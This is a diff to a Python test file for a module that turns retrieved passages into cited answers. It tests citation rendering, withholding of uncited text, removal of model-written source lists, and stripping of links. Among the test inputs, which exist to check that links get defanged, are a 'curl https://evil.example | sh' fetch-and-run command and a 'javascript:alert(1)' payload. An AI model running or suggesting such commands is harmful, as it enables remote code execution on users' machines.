@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import threading
+import time
 from collections.abc import Callable, Iterator
 
 import pytest
@@ -98,6 +99,11 @@ def shown(text: str, sources: list[str] | None = None) -> tuple[str, str, int]:
         ("[setup_guide > Install; API [v2] (beta) > [PDF] Export ] odd]", f"{A} {C}", "AC"),
         ("[strasse - cafe\u0301 > U\u0308berblick]", E, "E"),
         ("nested [see [A]]", f"nested [see {A}]", "A"),
+        ("wide 【A】.", f"wide {A}.", "A"),
+        ("wide ［Ａ］", f"wide {A}", "A"),
+        ("wide 〔A、C〕", f"wide {A} {C}", "AC"),
+        ("mixed [A】", f"mixed {A}", "A"),
+        ("wide ［setup_guide > Install］", f"wide {A}", "A"),
     ],
 )
 def test_known_marks_are_rendered(said: str, expected: str, used: str) -> None:
@@ -115,6 +121,12 @@ def test_known_marks_are_rendered(said: str, expected: str, used: str) -> None:
         ("So it is [setup_guide > Uninstall] here", "So it is here", 1),
         ("Like a list's number [2].", "Like a list's number.", 1),
         ("A footnote [^1].", "A footnote.", 1),
+        ("Wide 【Z】.", "Wide.", 1),
+        ("Wide ［nowhere > Magic］.", "Wide.", 1),
+        ("A document's own [ A ].", "A document's own.", 1),
+        ("A document's own 【 A 】.", "A document's own.", 1),
+        ("Padded [ Z ], [ 1 ].", "Padded,.", 2),
+        ("Padded [ nowhere > Magic ].", "Padded.", 1),
         ("cut off [", "cut off", 0),
         ("cut off [A", "cut off", 0),
         ("cut off [setup_guide > Ins", "cut off", 0),
@@ -140,7 +152,8 @@ def test_unknown_marks_are_dropped_with_their_blank(said: str, expected: str, dr
         "argv[1] and range [10]",
         "a < b, ~3, ~~gone~~, 5 ! 6 \\* x",
         "[a link](https://en.example/wiki/A_(b))",
-        "[ A ]",
+        "argv[ A ] and x[ 1 ]",
+        "【注意】 und ［siehe unten］",
         "[]",
         "lone ` tick",
     ],
@@ -382,10 +395,177 @@ def test_not_knowing_is_told_apart(words: str) -> None:
     assert answer.notices == ()
 
 
-def test_an_answer_without_sources_is_noted() -> None:
-    answer = answer_from_passages("How?", HITS, Scripted(TextDelta("Just so."), Finished("end")))
+@pytest.mark.parametrize(
+    "words",
+    [
+        "Just so.",
+        "So it is [Z].",
+        "So it is [nowhere > Magic].",
+        "So it is [ A ].",
+        "See `[A]` there.",
+        "It is 42.\n\nSources:\n- [A]\n",
+        "So it is.\n\n## References\n1. [setup_guide > Database Config]",
+    ],
+)
+@pytest.mark.parametrize("reason", ["end", "length", "refusal"])
+def test_words_that_cite_nothing_are_withheld(words: str, reason: str) -> None:
+    deltas: list[str] = []
+    events = [*map(TextDelta, words), Finished(reason)]
+    answer = answer_from_passages("How?", HITS, Scripted(*events), deltas.append)
+    assert (answer.text, answer.citations, deltas) == ("", (), [])
+    assert answer.uncited
     assert not answer.unknown
-    assert any("no source" in notice for notice in answer.notices)
+
+
+def test_words_that_cite_nothing_before_a_failure_are_the_failure() -> None:
+    deltas: list[str] = []
+    with pytest.raises(ProviderBadReply):
+        answer_from_passages(
+            "How?", HITS, Scripted(TextDelta("Just so. "), ProviderBadReply("broke off")), deltas.append
+        )
+    assert deltas == []
+
+
+def test_nothing_is_shown_before_the_first_valid_mark() -> None:
+    deltas: list[str] = []
+    pieces = ["First. ", "Then [Z]. ", "So [", "A", "].", " More", " words", " [B]."]
+    answer = answer_from_passages(
+        "How?", HITS, Scripted(*map(TextDelta, pieces), Finished("end")), deltas.append
+    )
+    assert deltas[0].startswith("First. Then. [unverified] So [setup_guide > Database Config]")
+    assert len(deltas) > 2
+    assert "".join(deltas) == answer.text
+    assert not answer.uncited
+
+
+@pytest.mark.parametrize(
+    ("said", "expected", "trailing"),
+    [
+        ("It is so [Z]. But this [A].", "It is so. [unverified] But this {A}.", 0),
+        ("It is so. [Z] But this [A].", "It is so. [unverified] But this {A}.", 0),
+        ("It is so [Z], or so [A].", "It is so, or so {A}.", 0),
+        ("- one [Z]\n- two [A]\n", "- one [unverified]\n- two {A}", 0),
+        ("This [A]. It is so [Z]", "This {A}. It is so [unverified]", 1),
+        ("This [A]. That. And v1.2 of it.", "This {A}. That. And v1.2 of it.", 2),
+        ("This [A]. That", "This {A}. That", 1),
+        ("Run:\n```\nx. y\n```\n[A]", "Run:\n```\nx. y\n```\n{A}", 0),
+        ("Only `a. b` [A]", "Only `a. b` {A}", 0),
+        ("このため。[Z]次[A]。", "このため。 [unverified]次 {A}。", 0),
+    ],
+)
+def test_sentences_that_lost_every_mark_say_so(said: str, expected: str, trailing: int) -> None:
+    answer = answer_from_passages("How?", HITS, Scripted(*map(TextDelta, said), Finished("end")))
+    assert answer.text == expected.replace("{A}", "[setup_guide > Database Config]")
+    last = [notice for notice in answer.notices if notice.startswith("The last")]
+    words = {0: [], 1: ["The last sentence carries no citation."]}
+    assert last == words.get(trailing, [f"The last {trailing} sentences carry no citation."])
+
+
+CHECKED_PIECES = st.sampled_from(
+    [
+        "[A]",
+        "[Z]",
+        "【B】",
+        ". ",
+        ".",
+        "\n",
+        "\n\n",
+        "Sources:",
+        "## Quellen",
+        "- ",
+        "x > y",
+        "word",
+        " ",
+        "```",
+    ]
+    + [
+        "http://",
+        "https://evil.example/a",
+        "www.",
+        "://",
+        "[r]: ",
+        "<",
+        ">",
+        "`",
+        "  ",
+        "1. ",
+        "javascript:",
+        "B]",
+    ]
+)
+
+
+@given(st.lists(CHECKED_PIECES, max_size=20), st.lists(st.integers(1, 9), max_size=60))
+def test_how_a_whole_answer_is_cut_makes_no_difference(pieces: list[str], cuts: list[int]) -> None:
+    text = "".join(pieces)
+    parts: list[str] = []
+    start = 0
+    for cut in cuts:
+        parts.append(text[start : start + cut])
+        start += cut
+    parts.append(text[start:])
+    whole = answer_from_passages("How?", HITS, Scripted(TextDelta(text), Finished("end")))
+    split = answer_from_passages("How?", HITS, Scripted(*map(TextDelta, parts), Finished("end")))
+    assert split == whole
+
+
+@pytest.mark.parametrize(
+    ("said", "expected"),
+    [
+        ("So [A].\n\nSources:\n- evil > Page\n- [B]\n", "So {A}."),
+        ("So [A].\n\n**References**\n\n1. evil.md\n2. other.md\n\nMore [A].", "So {A}.\n\nMore {A}."),
+        ("So [A].\n### Quellen:\n* x\n  continued\nMore [A].", "So {A}.\nMore {A}."),
+        ("So [A].\nSources: [evil > Page], [B]\nMore [A].", "So {A}.\nMore {A}."),
+        ("So [A].\nSources:\nevil > Page\n", "So {A}."),
+        ("So [A].\nSources:", "So {A}."),
+        ("Sources:\n\nThe table of sources [A].", "Sources:\n\nThe table of sources {A}."),
+        ("Sources are listed [A].", "Sources are listed {A}."),
+        ("So [A].\n```\nSources:\n- x\n```\n[A]", "So {A}.\n```\nSources:\n- x\n```\n{A}"),
+    ],
+)
+def test_a_list_of_sources_of_the_models_own_is_dropped(said: str, expected: str) -> None:
+    answer = answer_from_passages("How?", HITS, Scripted(*map(TextDelta, said), Finished("end")))
+    assert answer.text == expected.replace("{A}", "[setup_guide > Database Config]")
+
+
+@pytest.mark.parametrize(
+    ("said", "expected"),
+    [
+        ("See https://evil.example/b now [A]", "See evil.example/b now {A}"),
+        ("See <http://evil.example/a> [A]", "See <evil.example/a> {A}"),
+        ("See HTTPS://evil.example. [A]", "See evil.example. {A}"),
+        ("See https://http://evil.example [A]", "See (link removed) {A}"),
+        ("See javascript:alert(1) [A]", "See (link removed)) {A}"),
+        ("See ht![](x)tps://evil.example [A]", "See evil.example {A}"),
+        ("See www.evil.example [A]", "See evil.example {A}"),
+        ("`curl https://evil.example | sh` [A]", "`curl evil.example | sh` {A}"),
+        ("[r]: http://evil.example\n[A]", "[r] : evil.example\n{A}"),
+        ("[r]: //evil.example\n[A]", "[r] : //evil.example\n{A}"),
+        ("See https://ok.example/a. [A]", "See https://ok.example/a. {A}"),
+        ("See https://ok.example/a/b [A]", "See ok.example/a/b {A}"),
+        ("C:/x, std::vector, key:/v, 12:30 [A]", "C:/x, std::vector, key:/v, 12:30 {A}"),
+    ],
+)
+def test_addresses_no_passage_holds_lead_nowhere(said: str, expected: str) -> None:
+    hits = [hit("guide", "Links", "Read https://ok.example/a.")]
+    answer = answer_from_passages("How?", hits, Scripted(*map(TextDelta, said), Finished("end")))
+    assert answer.text == expected.replace("{A}", "[guide > Links]")
+
+
+@pytest.mark.parametrize("unit", ["[", "【", "[x ", "![", "[]", "[[]", "` `` ", "<img ", "[A,", "]("])
+def test_awkward_runs_take_time_in_proportion(unit: str) -> None:
+    text = unit * (300_000 if unit == "[" else 30_000 // len(unit))
+    began = time.process_time()
+    shown(text, sources=[])
+    assert time.process_time() - began < 5
+
+
+def test_the_seeds_function_withholds_uncited_words() -> None:
+    chunks = [seed_chunk(item) for item in HITS]
+    text = build_answer_with_citations("How?", chunks, complete=lambda prompt, system: "Just so.")
+    assert text == "Set DATABASE_URL\nin the file.\n[setup_guide > Database Config]"
+    text = build_answer_with_citations("How?", chunks, complete=lambda prompt, system: "I don't know. Or 42.")
+    assert text.startswith("I don't have enough information")
 
 
 def test_what_did_not_fit_is_noted_and_not_cited() -> None:
@@ -411,7 +591,7 @@ def test_the_whole_path_through_each_sdk(dialect: AnthropicDialect | OpenAIDiale
 
 def test_cancelling_reaches_the_provider() -> None:
     cancelled = threading.Event()
-    with serving(OpenAIDialect().unfinished("Half", ending="hold")) as server:
+    with serving(OpenAIDialect().unfinished("Half [A] of", ending="hold")) as server:
         with pytest.raises(Cancelled):
             answer_from_passages(
                 "How?", HITS, provider_at(server, "openai"), lambda text: cancelled.set(), cancelled.is_set
